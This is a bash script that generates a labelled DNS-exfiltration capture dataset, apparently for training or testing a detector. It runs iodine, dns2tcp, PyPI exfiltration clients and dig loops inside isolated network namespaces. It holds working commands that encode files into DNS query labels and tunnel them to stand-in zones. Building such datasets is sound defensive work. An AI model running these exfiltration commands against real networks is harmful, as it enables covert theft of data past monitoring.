#!/usr/bin/env bash
# Rebuild data/dns_exfil/captures.csv.gz: real DNS tunnelling tools, run on a private veth pair between
# two network namespaces made for the job (no interface of them leaves the machine, no route out),
# push real files through, capture every query with tcpdump, label the rows.
#
#   sudo scripts/dns_capture.sh [OUT_DIR]         (default: runs/dns/capture; needs root for ip netns)
#
# Tools (skipped with a note when missing): iodine + iodined and dns2tcp (Debian packages), dnsm and
# dns-tunnel-messenger (PyPI; EXFIL_VENV=/path/to/venv holding them), dig (dnsutils). Python: $PYTHON
# (default: the repository's .venv, else python3) with src/ on the path. Everything started here is
# stopped and both namespaces are deleted on exit, whatever the exit (trap).
set -uo pipefail
ROOT="$(cd "$(dirname "$0")/.." && pwd)"
OUT="${1:-$ROOT/runs/dns/capture}"
PYTHON="${PYTHON:-$( [ -x "$ROOT/.venv/bin/python" ] && echo "$ROOT/.venv/bin/python" || echo python3)}"
EXFIL_VENV="${EXFIL_VENV:-}"
SRV=vigil-dns-srv CLI=vigil-dns-cli
SRV_IP=10.253.0.1 CLI_IP=10.253.0.2
PAYLOADS=("$ROOT"/data/dns_exfil/payloads/*)
PIDS=()
export PYTHONPATH="$ROOT/src${PYTHONPATH:+:$PYTHONPATH}"

cleanup() {
  for pid in "${PIDS[@]:-}"; do [ -n "$pid" ] && kill "$pid" 2>/dev/null || true; done
  sleep 0.3
  for pid in "${PIDS[@]:-}"; do [ -n "$pid" ] && kill -9 "$pid" 2>/dev/null || true; done
  ip netns pids "$SRV" 2>/dev/null | xargs -r kill -9 2>/dev/null || true
  ip netns pids "$CLI" 2>/dev/null | xargs -r kill -9 2>/dev/null || true
  ip netns del "$SRV" 2>/dev/null || true
  ip netns del "$CLI" 2>/dev/null || true
}
trap cleanup EXIT INT TERM

stop_bg() { for pid in "$@"; do kill "$pid" 2>/dev/null || true; wait "$pid" 2>/dev/null || true; done; }
S() { ip netns exec "$SRV" "$@"; }
C() { ip netns exec "$CLI" "$@"; }

cleanup
mkdir -p "$OUT"
: > "$OUT/runs.tsv"
ip netns add "$SRV"; ip netns add "$CLI"
ip link add vdns-s type veth peer name vdns-c
ip link set vdns-s netns "$SRV"; ip link set vdns-c netns "$CLI"
S ip addr add "$SRV_IP/24" dev vdns-s; C ip addr add "$CLI_IP/24" dev vdns-c
S ip link set vdns-s up; C ip link set vdns-c up; S ip link set lo up; C ip link set lo up

capture_start() {  # $1 = pcap name
  ip netns exec "$CLI" tcpdump -i vdns-c -U -s 0 -w "$OUT/$1" udp port 53 2>>"$OUT/tcpdump.log" & TCPDUMP=$!; PIDS+=($TCPDUMP)
  sleep 0.7
}
capture_stop() {   # $1 pcap, $2 zone, $3 tool, $4 encoding
  sleep 0.5; stop_bg "$TCPDUMP"
  printf '%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "$4" >> "$OUT/runs.tsv"
  echo "  $(basename "$1"): $(tcpdump -nr "$OUT/$1" 2>/dev/null | grep -c '?' || true) queries"
}

push_tcp() {  # push every payload file through a TCP path: $1 client-side host, $2 port (server listens)
  local host=$1 port=$2
  for file in "${PAYLOADS[@]}"; do
    ip netns exec "$SRV" timeout 60 sh -c "nc -l -p $port > '$OUT/received.bin'" & local listener=$!
    sleep 0.5
    C timeout 60 sh -c "nc -q 2 $host $port < '$file'" || echo "  (push of $(basename "$file") timed out)"
    wait "$listener" 2>/dev/null || true
    cmp -s "$file" "$OUT/received.bin" && echo "  $(basename "$file"): received intact" \
      || echo "  $(basename "$file"): NOT received intact"
  done
}

# -- iodine: 4 upstream encodings (chosen by iodine from what the path preserves) x record types ---
if command -v iodined >/dev/null && command -v iodine >/dev/null; then
  echo "iodine $(iodine -v 2>&1 | sed -n 's/^version: //p')"
  declare -A RELAY_MODE=([Base128]=none [Base64]=no8bit [Base64u]=no8bit-noplus [Base32]=lower)
  for enc in Base128 Base64 Base64u Base32; do
    for qtype in NULL TXT CNAME A MX; do
      zone="i.tun.vigil-test.net"
      ip netns exec "$SRV" iodined -f -c -P vigilcap -l 127.0.0.1 -p 5353 10.99.0.1 "$zone" >"$OUT/iodined.log" 2>&1 & ID=$!; PIDS+=($ID)
      ip netns exec "$SRV" "$PYTHON" -m vigil.tasks.dns_exfil.capture relay --listen "$SRV_IP:53" --upstream 127.0.0.1:5353 \
          --mode "${RELAY_MODE[$enc]}" & RL=$!; PIDS+=($RL)
      sleep 0.7
      pcap="iodine__${enc}__${qtype}.pcap"
      capture_start "$pcap"
      ip netns exec "$CLI" iodine -f -r -P vigilcap -T "$qtype" "$SRV_IP" "$zone" >"$OUT/iodine.log" 2>&1 & IC=$!; PIDS+=($IC)
      for _ in $(seq 40); do C ip addr show dns0 2>/dev/null | grep -q 10.99.0 && break; sleep 0.5; done
      if C ip addr show dns0 2>/dev/null | grep -q 10.99.0; then
        grep -o "codec [A-Za-z0-9]*" "$OUT/iodine.log" | head -2 | tr '\n' ' '; echo
        push_tcp 10.99.0.1 9000
      else
        echo "  iodine $enc $qtype: no tunnel"; tail -3 "$OUT/iodine.log"
      fi
      stop_bg "$IC"; capture_stop "$pcap" "$zone" iodine "$enc"; stop_bg "$RL" "$ID"
    done
  done
fi

# -- dns2tcp: base64 labels (TXT and KEY requests), with and without compression ----------------
if command -v dns2tcpd >/dev/null; then
  echo "dns2tcp $(dpkg-query -W -f '${Version}' dns2tcp 2>/dev/null || echo '?')"
  zone="d.tun.vigil-test.net"
  mkdir -p "$OUT/dns2tcp-root"
  cat > "$OUT/dns2tcpd.conf" <<CONF
listen = $SRV_IP
port = 53
user = root
chroot = $OUT/dns2tcp-root
domain = $zone
resources = sink:127.0.0.1:9001
CONF
  for qtype in TXT KEY; do
    for comp in plain compressed; do
      ip netns exec "$SRV" dns2tcpd -F -f "$OUT/dns2tcpd.conf" >"$OUT/dns2tcpd.log" 2>&1 & DS=$!; PIDS+=($DS)
      sleep 0.7
      pcap="dns2tcp__base64-${comp}__${qtype}.pcap"
      capture_start "$pcap"
      flag=""; [ "$comp" = compressed ] && flag="-c"
      ip netns exec "$CLI" dns2tcpc $flag -z "$zone" -r sink -l 9100 -T "$qtype" "$SRV_IP" >"$OUT/dns2tcpc.log" 2>&1 & DC=$!; PIDS+=($DC)
      sleep 1
      for file in "${PAYLOADS[@]}"; do
        ip netns exec "$SRV" timeout 90 sh -c "nc -l -s 127.0.0.1 -p 9001 > '$OUT/received.bin'" & listener=$!
        sleep 0.5
        C timeout 90 sh -c "nc -q 3 127.0.0.1 9100 < '$file'" || true
        wait "$listener" 2>/dev/null || true
        cmp -s "$file" "$OUT/received.bin" && echo "  $(basename "$file"): received intact" \
          || echo "  $(basename "$file"): NOT received intact"
      done
      stop_bg "$DC"; capture_stop "$pcap" "$zone" dns2tcp "base64-$comp"; stop_bg "$DS"
    done
  done
fi

# -- PyPI exfiltration clients and plain dig loops: queries to an NXDOMAIN sink --------------------
ip netns exec "$SRV" "$PYTHON" -m vigil.tasks.dns_exfil.capture sink --listen "$SRV_IP:53" & SK=$!; PIDS+=($SK)
sleep 0.5
if [ -n "$EXFIL_VENV" ] && [ -x "$EXFIL_VENV/bin/dnsm" ]; then
  echo "dnsm $("$EXFIL_VENV/bin/pip" show dnsm 2>/dev/null | sed -n 's/^Version: //p')"
  zone="m.tun.vigil-test.net"; pcap="dnsm__base32-lzma__A.pcap"
  capture_start "$pcap"
  for file in "${PAYLOADS[@]}"; do
    C "$EXFIL_VENV/bin/dnsm" --zone "$zone" --resolver-ip "$SRV_IP:53" --await-reply-ms 0 -p --random-mailbox < "$file" >/dev/null 2>&1 || true
  done
  capture_stop "$pcap" "$zone" dnsm base32-lzma
fi
if [ -n "$EXFIL_VENV" ] && [ -x "$EXFIL_VENV/bin/dns-tunnel" ]; then
  echo "dns-tunnel-messenger $("$EXFIL_VENV/bin/pip" show dns-tunnel-messenger 2>/dev/null | sed -n 's/^Version: //p')"
  zone="t.tun.vigil-test.net"; pcap="dns-tunnel-messenger__base32__A.pcap"
  capture_start "$pcap"
  for file in "$ROOT"/data/dns_exfil/payloads/*.txt "$ROOT"/data/dns_exfil/payloads/*.py; do
    head -c 6000 "$file" | fold -w 120 | while IFS= read -r line; do
      [ -n "$line" ] && C timeout 5 "$EXFIL_VENV/bin/dns-tunnel" send --zone "$zone" --server "$SRV_IP" --port 53 "$line" >/dev/null 2>&1 || true
    done
  done
  capture_stop "$pcap" "$zone" dns-tunnel-messenger base32
fi
if command -v dig >/dev/null; then
  echo "dig $(dig -v 2>&1 | head -1)"
  for enc in hex base32 base64; do
    zone="x.tun.vigil-test.net"; pcap="dig-loop__${enc}__A.pcap"
    capture_start "$pcap"
    file="$ROOT/data/dns_exfil/payloads/python-3.11.7-idle_48.png"
    case $enc in
      hex) chunks=$(xxd -p -c 30 "$file") ;;
      base32) chunks=$(base32 -w 0 "$file" | tr -d '=' | tr 'A-Z' 'a-z' | fold -w 52) ;;
      base64) chunks=$(base64 -w 0 "$file" | tr -d '=' | tr '/+' '_-' | fold -w 60) ;;
    esac
    n=0
    for chunk in $chunks; do
      n=$((n + 1)); C dig +tries=1 +timeout=1 +short @"$SRV_IP" "$chunk.$n.$zone" A >/dev/null 2>&1 || true
    done
    capture_stop "$pcap" "$zone" dig-loop "$enc"
  done
fi

"$PYTHON" -m vigil.tasks.dns_exfil.capture label "$OUT" --out "$OUT/captures.csv.gz"
echo "pcaps and captures.csv.gz in $OUT (copy captures.csv.gz to data/dns_exfil/ to ship it)"
